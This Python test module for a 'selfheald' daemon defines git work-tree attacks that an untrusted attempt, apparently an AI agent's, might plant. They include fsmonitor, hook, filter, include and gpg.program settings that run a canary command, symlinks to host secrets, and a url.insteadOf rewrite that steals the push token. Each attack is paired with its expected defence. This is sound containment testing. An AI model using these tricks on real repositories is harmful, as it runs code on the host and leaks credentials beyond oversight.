"""After the daemon, by what an attempt leaves in its work tree: git's own ways to run something, and foreign files."""

from collections.abc import Callable
from dataclasses import dataclass

from selfheald.domain.proposal import TreeChanges

AS_DATA = "the tree is read as data; no git command runs in it or over it"

REPOSITORY = """
def git(*arguments, folder='.'):
    subprocess.run(['git', '-C', folder, *arguments], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if not os.path.isdir('.git'): git('init', '-q')
evil = 'touch ' + S['touched'] + ' #'
def script(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as file: file.write('#!/bin/sh\\ntouch ' + S['touched'] + '\\ncat\\n')
    os.chmod(path, 0o755)
open('answer.txt', 'w').write('right\\n')
"""


@dataclass(frozen=True, slots=True, kw_only=True)
class Proposed:
    """What became of a tree."""

    executed: bool = False
    """Something that the attacker wrote ran outside of the sandbox."""
    text: str = ""
    """All that would leave the machine: the diff, the message, and what each path became."""
    hung: bool = False
    stolen: bool = False
    """The token of the push went to the attacker."""


def executed(proposed: Proposed) -> bool:
    """A command of the attacker's ran as the daemon."""
    return proposed.executed


def hung(proposed: Proposed) -> bool:
    """Whoever looked at the tree waits for ever."""
    return proposed.hung


def says(word: str) -> Callable[[Proposed], bool]:
    """The proposal holds this word."""
    return lambda proposed: word in proposed.text


def fixed(changes: TreeChanges) -> bool:
    """The honest part of the change is seen, and the transcript has the rest."""
    return "answer.txt" in {file.path for file in changes.files}


def left_out(path: str) -> Callable[[TreeChanges], bool]:
    """The attempt's note says that this path was left out, and why."""
    return lambda changes: any(note.startswith(f"{path}: ") for note in changes.left_out)


GIT_LEFT_OUT = left_out(".git")


@dataclass(frozen=True, slots=True, kw_only=True)
class TreeAttack:
    """One attack by what is left in the work tree."""

    name: str
    tries: str
    program: str
    won: Callable[[Proposed], bool] = executed
    seen: Callable[[TreeChanges], bool] = GIT_LEFT_OUT
    held_by: str = AS_DATA
    seen_as: str = "the attempt's note: left out"
    canary: bool = False
    """It has won when the canary is in the proposal."""


def _config(name: str, tries: str, *settings: str) -> TreeAttack:
    lines = "\n".join(f"git('config', {setting})" for setting in settings)
    return TreeAttack(name=name, tries=tries, program=f"{REPOSITORY}\n{lines}")


TREE = (
    _config("plant-fsmonitor", "have git start a program to watch files", "'core.fsmonitor', evil"),
    TreeAttack(
        name="plant-hooks",
        tries="plant hooks that run when the daemon commits",
        program=REPOSITORY
        + "for hook in ('pre-commit', 'post-index-change', 'post-commit'): script('.git/hooks/' + hook)",
    ),
    TreeAttack(
        name="plant-a-hooks-path",
        tries="point git to hooks in the work tree",
        program=REPOSITORY + "script('ours/pre-commit'); git('config', 'core.hooksPath', 'ours')",
    ),
    TreeAttack(
        name="plant-a-filter",
        tries="have git run a filter on each file, by attributes",
        program=REPOSITORY
        + "git('config', 'filter.evil.clean', evil); open('.gitattributes', 'w').write('* filter=evil\\n')",
    ),
    TreeAttack(
        name="plant-an-include",
        tries="have git read its configuration from a file of the work tree",
        program=REPOSITORY
        + "open('more', 'w').write('[core]\\n\\tfsmonitor = ' + evil.replace('#', ';') + '\\n')\n"
        + "git('config', 'include.path', '../more')",
    ),
    _config("plant-a-diff-program", "have git show differences by a program", "'diff.external', evil"),
    TreeAttack(
        name="plant-a-signer",
        tries="have git sign commits by a program of the work tree",
        program=REPOSITORY
        + "script('bin/sign'); git('config', 'commit.gpgSign', 'true'); git('config', 'gpg.program', './bin/sign')",
    ),
    TreeAttack(
        name="embed-a-repository",
        tries="nest a repository whose own configuration runs when the outer one is looked at",
        program=REPOSITORY
        + "git('init', '-q', 'sub')\n"
        + "open('sub/file', 'w').write('x')\n"
        + "git('config', 'filter.evil.clean', evil, folder='sub')\n"
        + "open('sub/.gitattributes', 'w').write('* filter=evil\\n')\n"
        + "git('-c', 'user.name=x', '-c', 'user.email=x@x', 'commit', '--allow-empty', '-qm', 'x', folder='sub')\n"
        + "git('config', 'core.fsmonitor', evil, folder='sub')",
        seen=left_out("sub/.git"),
    ),
    TreeAttack(
        name="become-a-submodule",
        tries="have a nested repository proposed as a submodule",
        program=REPOSITORY
        + "git('init', '-q', 'sub')\n"
        + "git('-c', 'user.name=x', '-c', 'user.email=x@x', 'commit', '--allow-empty', '-qm', 'x', folder='sub')",
        won=says("160000"),
        seen=left_out("sub/.git"),
    ),
    TreeAttack(
        name="move-the-work-tree",
        tries="have git take another folder for the work tree, and propose its files",
        program=REPOSITORY + "git('config', 'core.worktree', os.path.dirname(S['secret']) + '/private')",
        canary=True,
    ),
    TreeAttack(
        name="propose-a-link-out",
        tries="propose a symbolic link that leads to a file of the host",
        program=REPOSITORY + "os.symlink(S['secret'], 'stolen')",
        won=says("120000"),
        seen=left_out("stolen"),
    ),
    TreeAttack(
        name="steal-by-the-message",
        tries="have the daemon read a secret as the commit's message",
        program=REPOSITORY + "os.symlink(S['secret'], 'commit-message.txt')",
        canary=True,
        seen=fixed,
        seen_as="the proposal has no summary",
    ),
    TreeAttack(
        name="hang-git-by-a-pipe",
        tries="leave a pipe where git reads a file, so that it waits for ever",
        program=REPOSITORY + "os.mkfifo('.gitattributes')",
        won=hung,
        seen=left_out(".gitattributes"),
    ),
    TreeAttack(
        name="propose-a-huge-file",
        tries="propose a file that no code host takes",
        program=REPOSITORY + "os.truncate(os.open('huge.bin', os.O_CREAT | os.O_WRONLY), 20_000_001)",
        won=says("huge.bin"),
        seen=left_out("huge.bin"),
        held_by="files above 20 MB are left out",
    ),
    TreeAttack(
        name="steal-the-push-token",
        tries="redirect the daemon's push, and its token, to a host of the attacker's",
        program=REPOSITORY + "git('config', f\"url.http://127.0.0.1:{S['port']}/.insteadOf\", S['remote'])",
        won=lambda proposed: proposed.stolen,
        held_by="pushes go from a mirror that no agent has seen, to an address of the configuration",
    ),
)
